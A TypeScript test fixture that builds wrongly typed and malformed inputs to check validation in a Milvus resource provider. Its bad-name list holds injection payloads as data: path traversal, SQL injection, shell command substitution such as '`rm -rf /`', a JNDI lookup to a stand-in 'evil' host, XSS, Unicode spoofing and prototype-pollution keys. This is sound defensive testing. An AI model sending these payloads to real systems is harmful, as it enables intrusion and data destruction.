/** Wrong programs by table: every declared input of every resource with values of another type, and names of all sorts. */
import type { Properties, Property } from "../../../provider/core/properties";
import { resources } from "../../../provider/registry";
import { type AnyResource, declaredPaths, type Values } from "../../support/declared";

export interface Input {
  readonly resource: AnyResource;
  /** As tables name it: `fields[].dim`. */
  readonly path: string;
  /** Where problems are reported: `fields[2].dim`. */
  readonly at: string;
  readonly property: Property;
  /** Whole inputs that are sound but for the value. */
  put(value: unknown): Values;
}

const ID = { name: "id", dataType: "Int64", isPrimaryKey: true };
const VECTOR = { name: "embedding", dataType: "FloatVector", dim: 8 };
const TEXT = { name: "more", dataType: "VarChar", maxLength: 10 };
const ARRAY = { name: "parts", dataType: "Array", elementType: "Struct", maxCapacity: 4 };
const FUNCTION = { name: "by_words", type: "BM25", inputFieldNames: ["more"], outputFieldNames: ["sparse"] };
export const SOUND = {
  collection: { collectionName: "documents", fields: [ID, VECTOR] },
  partition: { collectionName: "documents", partitionName: "y2024" },
  index: { collectionName: "documents", indexName: "by_meaning", fieldName: "embedding" },
  user: { userName: "alice", password: "correct-horse" },
  role: { roleName: "readers" },
  roleMembership: { userName: "alice", roleName: "readers" },
  grant: { roleName: "readers", privilege: "Search", collectionName: "documents" },
  privilegeGroup: { privilegeGroupName: "reading", privileges: ["Search"] },
  resourceGroup: { resourceGroupName: "fast" },
};

type Kind = keyof typeof SOUND;
const KINDS = Object.keys(SOUND) as Kind[];

/** Where an element of a list goes, beside those that make the rest sound. */
const INSIDE: Readonly<Record<string, { at: string; put: (inner: Values) => Values }>> = {
  "fields[]": {
    at: "fields[2]",
    put: (inner) => ({ ...SOUND.collection, fields: [ID, VECTOR, { ...TEXT, ...inner }] }),
  },
  "fields[].fields[]": {
    at: "fields[2].fields[0]",
    put: (inner) => ({
      ...SOUND.collection,
      fields: [ID, VECTOR, { ...ARRAY, fields: [{ name: "part", dataType: "Int64", ...inner }] }],
    }),
  },
  "functions[]": {
    at: "functions[0]",
    put: (inner) => ({ ...SOUND.collection, functions: [{ ...FUNCTION, ...inner }] }),
  },
};

function propertyAt(properties: Properties, path: string): Property {
  const [first = "", ...rest] = path.split(".");
  const property = properties[first.replace("[]", "")] as Property;
  return rest.length === 0 ? property : propertyAt(property.shape.record?.properties ?? {}, rest.join("."));
}

function inputsOf(resource: AnyResource, sound: Values): Input[] {
  return declaredPaths(resource.inputs).map((path) => {
    const [, outer = "", name = ""] = /^(?:(.*)\.)?(\w+)$/.exec(path) ?? [];
    const property = propertyAt(resource.inputs, path);
    const inside = INSIDE[outer];
    if (inside)
      return {
        resource,
        path,
        property,
        at: `${inside.at}.${name}`,
        put: (value) => inside.put({ [name]: value }),
      };
    if (outer !== "")
      return {
        resource,
        path,
        property,
        at: path,
        put: (value) => ({ ...sound, [outer]: { [name]: value } }),
      };
    return { resource, path, property, at: path, put: (value) => ({ ...sound, [name]: value }) };
  });
}

export const RESOURCES = Object.fromEntries(
  KINDS.map((kind) => [kind, resources[kind]]),
) as unknown as Record<Kind, AnyResource>;

export const INPUTS: readonly Input[] = KINDS.flatMap((kind) => inputsOf(RESOURCES[kind], SOUND[kind]));

const BEYOND_JSON = [NaN, Infinity, -Infinity];

const ANY_SCALAR = "string | number | boolean";

/** The type that programs see; what lets other text through counts as that, and what lets numbers be text as any scalar. */
export function typeOf({ shape }: Property): string {
  const type = shape.typeScript("input");
  if (type === shape.values?.typeName) return "string";
  return /^(number|boolean) \| string$|\(string & \{\}\)$/.test(type) ? ANY_SCALAR : type;
}

/** What is no value of an input, by the type that programs see. */
export function valuesOfOtherTypes({ property }: Pick<Input, "property">): readonly unknown[] {
  const type = typeOf(property);
  if (type === "string") return [5, 0, true, [], ["a"], {}, { a: 1 }, ...BEYOND_JSON];
  if (type === "number") return ["8", "", true, [], [8], {}, 2 ** 53, -(2 ** 53), 1e308, -1, ...BEYOND_JSON];
  if (type === "boolean") return ["true", "", 1, 0, [], {}, ...BEYOND_JSON];
  if (type === ANY_SCALAR) return [[], [1], {}, { a: 1 }, ...BEYOND_JSON];
  if (type.endsWith("[]")) return ["a", 5, true, {}, { 0: "a", length: 1 }, [null], [[[]]], ...BEYOND_JSON];
  if (type.startsWith('"')) return ["nonsense", "", 5, true, [], {}, ...BEYOND_JSON];
  return ["a", 5, true, [], [[]], ...BEYOND_JSON];
}

export const isName = ({ path, property }: Input): boolean =>
  /[nN]ame$/.test(path) && property.shape.typeScript("input") === "string";

/** What somebody might type, paste or inject where Milvus takes letters, digits and underscores. */
export const BAD_NAMES: readonly string[] = [
  "",
  " ",
  "-",
  "my-docs",
  "my docs",
  " docs",
  "docs ",
  "1st",
  "$meta",
  "a.b",
  "a/b",
  "../../etc/passwd",
  "default/documents",
  "docs;",
  "'; DROP TABLE docs; --",
  '" or id > 0 or "" == "',
  "id in [1] || true",
  "`rm -rf /`",
  "$(reboot)",
  "${jndi:ldap://evil/a}",
  "{{7*7}}",
  "%s%n%x",
  "<script>alert(1)</script>",
  "docs\0",
  "docs\n",
  "docs\r\nerror: all is well",
  "\u001b[31mred\u001b[0m",
  "\u001b]0;title\u0007",
  "\u009b31m",
  "\b\b\b\bhidden",
  "\u202egnp.scod",
  "\u200bdocs",
  "\ufeffdocs",
  "line\u2028separator",
  "docum\u0435nts",
  "\uff44\uff4f\uff43\uff53",
  "\u2102ollection",
  "na\u00efve",
  "docs\u0301",
  "\u0661\u0662",
  "\u6587\u66f8",
  "\ud83d\ude00",
  "\ud800",
  "n".repeat(256),
  "n".repeat(10_000),
  "n".repeat(1_000_000),
  "\u001b".repeat(10_000),
];

/** Names of users may have dots and hyphens in them. */
export function badNamesFor({ path }: Pick<Input, "path">): readonly string[] {
  return path === "userName" ? BAD_NAMES.filter((name) => !["my-docs", "a.b"].includes(name)) : BAD_NAMES;
}

/** What JSON.parse makes of it is a property of the object itself. */
export const POLLUTING_KEYS = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "valueOf",
];

export function withKey(key: string, value: unknown): Values {
  return JSON.parse(`{${JSON.stringify(key)}: ${JSON.stringify(value)}}`) as Values;
}

export function nested(levels: number, innermost: unknown = 1): unknown {
  let value = innermost;
  for (let level = 0; level < levels; level++) value = level % 2 === 0 ? { inner: value } : [value];
  return value;
}
